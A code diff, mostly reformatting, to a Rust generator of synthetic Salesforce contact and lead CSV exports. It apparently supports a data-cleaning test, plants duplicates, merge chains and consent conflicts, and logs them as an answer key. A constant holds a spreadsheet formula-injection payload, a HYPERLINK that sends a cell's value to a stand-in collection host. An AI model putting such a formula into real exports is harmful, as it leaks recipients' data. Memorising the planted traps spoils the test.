@@ -20,7 +20,8 @@ const LEAD: &[&str] = &["ID", "ISDELETED", "MASTERRECORDID", "LASTNAME", "FIRSTN
     "EMAIL", "LEADSOURCE", "STATUS", "RATING", "ISCONVERTED", "CONVERTEDDATE", "CONVERTEDACCOUNTID", "CONVERTEDCONTACTID", "OWNERID",
     "HASOPTEDOUTOFEMAIL", "DESCRIPTION", "CREATEDDATE", "CREATEDBYID", "LASTMODIFIEDDATE", "LASTMODIFIEDBYID", "SYSTEMMODSTAMP"];
 
-const HARMLESS: [&str; 4] = ["Prefers calls before noon.", "Met at the trade show.", "Decides together with finance.", ""];
+const HARMLESS: [&str; 4] =
+    ["Prefers calls before noon.", "Met at the trade show.", "Decides together with finance.", ""];
 const BROKEN: &str = "Said on the phone: \"call back in May\".\nSecond line; \"quoted\", with a comma.";
 const FORMULA: &str = "=HYPERLINK(\"http://collect.example/?\"&A1,\"Open invoice\")";
 
@@ -42,7 +43,11 @@ pub fn exports(world: &mut World) -> Vec<Export> {
             let lost = merged(world, &mut dice, &mut table, at, &id, None);
             if dice.chance(220) {
                 merged(world, &mut dice, &mut table, at, &lost, None);
-                world.truth.trap("merge chain in Salesforce", &format!("Salesforce/Contact/{lost}"), "A → B → C: the middle record is deleted too");
+                world.truth.trap(
+                    "merge chain in Salesforce",
+                    &format!("Salesforce/Contact/{lost}"),
+                    "A → B → C: the middle record is deleted too",
+                );
             }
         }
         let cells = contact(world, &mut dice, at, &id, None);
@@ -50,7 +55,11 @@ pub fn exports(world: &mut World) -> Vec<Export> {
         written.push((at, cells));
         if at > 18 && dice.chance(42) {
             let double = world.keys.salesforce(&mut dice, "003");
-            world.truth.trap("duplicate inside one system", &format!("Salesforce/Contact/{double}"), "contact entered twice");
+            world.truth.trap(
+                "duplicate inside one system",
+                &format!("Salesforce/Contact/{double}"),
+                "contact entered twice",
+            );
             let cells = contact(world, &mut dice, at, &double, None);
             table.row(&cells);
         }
@@ -61,12 +70,26 @@ pub fn exports(world: &mut World) -> Vec<Export> {
     vec![data_loader("Contact.csv", table, 1), delta, leads(world)]
 }
 
-fn merged(world: &mut World, dice: &mut Dice, table: &mut Table, at: usize, winner: &str, fixed: Option<&str>) -> String {
+fn merged(
+    world: &mut World,
+    dice: &mut Dice,
+    table: &mut Table,
+    at: usize,
+    winner: &str,
+    fixed: Option<&str>,
+) -> String {
     let id = fixed.map_or_else(|| world.keys.salesforce(dice, "003"), str::to_owned);
     let when = EXPORTED * 86_400 - dice.between(1, 14) * 86_400 + 33_000;
     let cells = contact(world, dice, at, &id, Some((winner, when)));
     table.row(&cells);
-    world.truth.merged("Salesforce", "Contact", &id, winner, &salesforce_time(when), "MASTERRECORDID of the losing row");
+    world.truth.merged(
+        "Salesforce",
+        "Contact",
+        &id,
+        winner,
+        &salesforce_time(when),
+        "MASTERRECORDID of the losing row",
+    );
     world.keys.lost_contacts.insert(at, id.clone());
     id
 }
@@ -107,7 +130,8 @@ fn contact(world: &mut World, dice: &mut Dice, at: usize, id: &str, merged: Opti
         _ => {}
     }
     let created = office_hour(person.joined, dice.roll());
-    let modified = merged.map_or_else(|| (created + dice.between(5, 800) * 86_400).min(EXPORTED * 86_400 - 50_000), |(_, when)| when);
+    let modified = merged
+        .map_or_else(|| (created + dice.between(5, 800) * 86_400).min(EXPORTED * 86_400 - 50_000), |(_, when)| when);
     let place = &company.country().places[company.place];
     let foreign = if dice.chance(350) && !place.1.is_empty() { place.1 } else { place.0 };
     let country = match dice.below(10) {
@@ -122,7 +146,8 @@ fn contact(world: &mut World, dice: &mut Dice, at: usize, id: &str, merged: Opti
     };
     let owner = user_id(world.seed, owner(person.company));
     let street = person.home.clone().unwrap_or_else(|| company.street.clone());
-    let legacy = company.legacy.as_ref().filter(|_| main && at % 2 == 0).map(|old| format!("{old}-{:02}", at % 90 + 10));
+    let legacy =
+        company.legacy.as_ref().filter(|_| main && at % 2 == 0).map(|old| format!("{old}-{:02}", at % 90 + 10));
     let opted_out = consent(world, at, &key, main);
     vec![
         id.to_owned(),
@@ -138,7 +163,11 @@ fn contact(world: &mut World, dice: &mut Dice, at: usize, id: &str, merged: Opti
         foreign.to_owned(),
         place.3.to_owned(),
         country.to_owned(),
-        if dice.chance(640) || at < 19 { spell_phone(&person.phone, if at < 19 { 0 } else { dice.below(9) }) } else { String::new() },
+        if dice.chance(640) || at < 19 {
+            spell_phone(&person.phone, if at < 19 { 0 } else { dice.below(9) })
+        } else {
+            String::new()
+        },
         if dice.chance(20) { spell_phone(&person.phone, 0) } else { String::new() },
         if dice.chance(180) { spell_phone(&person.phone, 1) } else { String::new() },
         if dice.chance(930) || at < 19 { spelling.email } else { String::new() },
@@ -168,7 +197,11 @@ fn contact(world: &mut World, dice: &mut Dice, at: usize, id: &str, merged: Opti
 fn consent(world: &mut World, at: usize, key: &str, main: bool) -> bool {
     let opted_out = world.people[at].opted_out;
     if opted_out && main && at % 3 != 0 && world.keys.hub_contact[at].is_some() {
-        world.truth.trap("consent conflict", key, "Salesforce and HubSpot disagree on e-mail; the stricter one is right");
+        world.truth.trap(
+            "consent conflict",
+            key,
+            "Salesforce and HubSpot disagree on e-mail; the stricter one is right",
+        );
     }
     opted_out && at % 3 != 1
 }
@@ -200,10 +233,18 @@ fn bare(world: &World, id: &str, given: &str, family: &str, email: &str) -> Vec<
 
 fn tests(world: &mut World, dice: &mut Dice, table: &mut Table) {
     const FAKE: [(&str, &str, &str); 12] = [
-        ("Mickey", "Mouse", "mickey@test.example"), ("Donald", "Duck", "donald@test.example"), ("Test", "Test", "test@test.example"),
-        ("Test", "Contact", "test+1@larkfield.example"), ("QA", "Larkfield", "qa@larkfield.example"), ("asdf", "asdf", "asdf@asdf.example"),
-        ("Do Not", "Use", ""), ("John", "Doe", "test@test.example"), ("Max", "Mustermann", "max@example.com"), ("Test", "Katarzyna", "qa+7@larkfield.example"),
-        ("xxx", "xxx", "noreply@example.com"), ("Delta Dental", "Test", "test@deltadental.example"),
+        ("Mickey", "Mouse", "mickey@test.example"),
+        ("Donald", "Duck", "donald@test.example"),
+        ("Test", "Test", "test@test.example"),
+        ("Test", "Contact", "test+1@larkfield.example"),
+        ("QA", "Larkfield", "qa@larkfield.example"),
+        ("asdf", "asdf", "asdf@asdf.example"),
+        ("Do Not", "Use", ""),
+        ("John", "Doe", "test@test.example"),
+        ("Max", "Mustermann", "max@example.com"),
+        ("Test", "Katarzyna", "qa+7@larkfield.example"),
+        ("xxx", "xxx", "noreply@example.com"),
+        ("Delta Dental", "Test", "test@deltadental.example"),
     ];
     for (nth, (given, family, email)) in FAKE.into_iter().enumerate() {
         let id = if nth == 11 { "0038d00000Wn7TaAAJ".to_owned() } else { world.keys.salesforce(dice, "003") };
@@ -250,7 +291,11 @@ fn delta(world: &mut World, dice: &mut Dice, written: &[(usize, Vec<String>)], h
             (cells[26], cells[28]) = (when.clone(), when);
         }
         table.row(&cells);
-        world.truth.trap("changed in the delta", &format!("Salesforce/Contact/{}", cells[0]), if at % 5 == 0 { "same bytes again" } else { "newer version" });
+        world.truth.trap(
+            "changed in the delta",
+            &format!("Salesforce/Contact/{}", cells[0]),
+            if at % 5 == 0 { "same bytes again" } else { "newer version" },
+        );
     }
     for at in held_back {
         let Some(id) = world.keys.contact[*at].clone() else { continue };
@@ -308,7 +353,12 @@ fn leads(world: &mut World) -> Export {
             if dice.chance(550) { spell_phone(&person.phone, dice.below(9)) } else { String::new() },
             if dice.chance(960) { spelling.email } else { String::new() },
             (*dice.pick(&SOURCES)).to_owned(),
-            if contact.is_some() { "Converted" } else { dice.pick(&["Open - Not Contacted", "Working - Contacted", "Unqualified", "open"]) }.to_owned(),
+            if contact.is_some() {
+                "Converted"
+            } else {
+                dice.pick(&["Open - Not Contacted", "Working - Contacted", "Unqualified", "open"])
+            }
+            .to_owned(),
             (*dice.pick(&["Hot", "Warm", "Cold", ""])).to_owned(),
             contact.is_some().to_string(),
             if contact.is_some() { iso(created.div_euclid(86_400) + 12) } else { String::new() },
